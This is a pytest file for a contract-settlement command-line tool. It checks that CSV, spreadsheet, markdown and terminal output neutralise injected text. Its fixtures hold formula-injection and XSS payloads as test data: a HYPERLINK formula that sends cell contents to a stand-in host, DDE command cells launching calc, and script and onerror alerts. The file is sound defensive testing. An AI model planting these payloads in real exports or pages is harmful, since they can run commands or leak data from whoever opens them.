"""Text that a terminal, a spreadsheet or a page would act on, in a contract and in data: shown, and never acted on."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from rich.console import Console

import alliance
from alliance.cli.main import cli
from alliance.reports.statement import statement
from alliance.reports.terminal import show

SHEET = '=HYPERLINK("http://e.org?"&A1,"x")'
COMMAND = "+cmd|' /C calc'!A0"
PAGE = "<img src=x onerror=alert(1)><script>alert(1)</script>"
LINK = "[paid](javascript:alert(1)) ![x](http://e.org/x.png) `code` | **bold**"
RICH = "[bold red blink]PAID[/] [link=http://e.org]here[/link] :boom:"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"

CONTRACT = f"""alliance: 1
contract:
  id: text
  title: {json.dumps(PAGE)}
  term: {{from: 2026-04-01, to: 2029-03-31}}
  key: name
parties:
  council: {{name: {json.dumps(SHEET)}, role: commissioner}}
  north: {{name: {json.dumps(LINK)}, role: provider}}
accounts:
  fund: {{title: {json.dumps(COMMAND)}, by: person, may_go_below: any}}
inputs:
  spend: {{title: {json.dumps(RICH)}, unit: GBP, clause: {json.dumps(AT)}}}
  people: {{title: {json.dumps(AT)}, records: {{person: id, cost: GBP}}}}
figures:
  twice: {{title: {json.dumps(PAGE)}, is: spend * 2}}
payments:
  paid:
    title: {json.dumps(RICH)}
    clause: {json.dumps(LINK)}
    pays_for: outcome
    start: twice
    steps: [{{name: {json.dumps(SHEET)}, multiply: 50%}}]
    from: council
    to: north
  each_of_them: {{title: {json.dumps(LINK)}, pays_for: outcome, each: person in people, start: sum(cost), from: council, to: fund}}
"""
RECORDS = ["=1+1", "@x", "-2+3", "\uff1d1+1", PAGE, LINK, RICH, " =1+1"]
COMMANDS = {
    "settle": ["settle", "c.yaml", "--period", "2026-27", "--set", "spend=100", "--data", "people=people.json"],
    "explain": ["explain", "c.yaml", "--period", "2026-27", "--set", "spend=100", "--data", "people=people.json"],
    "inputs": ["inputs", "c.yaml"],
    "show": ["show", "c.yaml"],
    "test": ["test", "c.yaml"],
    "validate": ["validate", "c.yaml"],
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "c.yaml").write_text(CONTRACT, "utf-8")
    people = [{"person": text, "cost": "1.00"} for text in RECORDS]
    (tmp_path / "people.json").write_text(json.dumps(people), "utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def printed(*words: str) -> str:
    result = CliRunner().invoke(cli, words, prog_name="alliance", catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return str(result.stdout)


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula."""
    plain = cell.lstrip(" \u00a0\t")
    return plain[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not re.fullmatch(r"-?[\d.]+%?", plain)


@pytest.mark.parametrize("rows", ["transfers", "figures", "measures", "balances"])
def test_no_cell_of_a_statement_is_a_formula(folder: Path, rows: str) -> None:
    text = printed(*COMMANDS["settle"], "--format", "csv", "--rows", rows)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    assert not [cell for cell in cells if runs(cell)]
    if rows == "balances":
        assert {"'=1+1", "'@x", "'-2+3", "'\uff1d1+1"} <= set(cells), "kept, behind an apostrophe"


@pytest.mark.parametrize("command", ["inputs", "test", "validate"])
def test_no_cell_of_another_list_is_a_formula(folder: Path, command: str) -> None:
    text = printed(*COMMANDS[command], "--format", "csv")
    assert not [cell for row in csv.reader(io.StringIO(text)) for cell in row if runs(cell)]


def test_no_cell_of_a_form_is_a_formula(folder: Path) -> None:
    printed("inputs", "c.yaml", "--template", "form.csv")
    printed("inputs", "c.yaml", "--template", "form.xlsx")
    lines = (folder / "form.csv").read_text("utf-8-sig").splitlines()
    body = [line for line in lines if not line.startswith("#")]
    assert not [cell for row in csv.reader(body) for cell in row if runs(cell)]
    import zipfile

    with zipfile.ZipFile(folder / "form.xlsx") as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8")
            assert "<f>" not in text, "no formula"
            assert "<hyperlink" not in text
            assert "<script" not in text
            assert not re.search(r"<t[^>]*>\s*[=@]", text)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.found.append(tag)


@pytest.mark.parametrize("command", ["settle", "explain", "inputs", "show", "test", "validate"])
def test_no_markup_of_a_page_is_left(folder: Path, command: str) -> None:
    text = printed(*COMMANDS[command], "--format", "markdown")
    bare = re.sub(r"\\.", "", text)  # what is escaped is shown as it is
    tags = _Tags()
    tags.feed(bare)
    assert tags.found == []
    assert not re.search(r"!?\[[^]]*\]\(", bare), "no link, no picture"
    assert "`" not in bare
    for line in text.splitlines():
        if line.startswith("|"):
            assert line.endswith("|")


@pytest.mark.parametrize("command", COMMANDS)
def test_a_terminal_is_shown_the_words_and_no_more(folder: Path, command: str) -> None:
    text = printed(*COMMANDS[command])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


def test_a_terminal_with_colours_takes_no_words_for_colours(folder: Path) -> None:
    contract = alliance.load("c.yaml")
    settled = alliance.settle(contract, "2026-27", {"spend": "100", "people": []})
    out = io.StringIO()
    show(statement(settled, contract), Console(file=out, force_terminal=True, width=250, highlight=False))
    plain = re.sub(r"\x1b\[[\d;]*m", "", out.getvalue())
    assert RICH in plain
    assert "\x1b]8" not in out.getvalue(), "no link"
    assert not re.search(r"\x1b(?!\[[\d;]*m)", out.getvalue())
